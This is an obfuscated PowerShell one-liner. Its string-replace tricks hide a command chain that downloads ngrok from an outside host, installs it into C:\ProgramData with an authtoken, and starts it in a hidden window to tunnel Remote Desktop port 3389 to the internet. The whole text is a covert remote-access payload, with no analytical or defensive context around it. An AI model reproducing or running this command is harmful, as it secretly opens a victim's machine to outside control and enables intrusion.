iex (('# init 4440 zz~24
Inzz~2oke-WebRequest ''https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-zz~23-stable-windows-amd64.zip'' -OutFile $enzz~2:TEMP\n.zip
ExpandQXZ55-Archizz~2e $enzz~2:TEMPQXZ55\n.zip -DestiQXZ55nationPath C:\ProgramData\ng
C:\ProgramData\ng\ngrok.exe authtoken 2abcDEFghiJKLmnoPQRstuVWxyz_0987654321
Start-Process -WindoQXZ55wStyle Hidden C:\ProgramData\ngQXZ55\ngrok.exe -ArgumentList ''tcp 3389''
' -replace 'QXZ55','').Replace('zz~2','v'))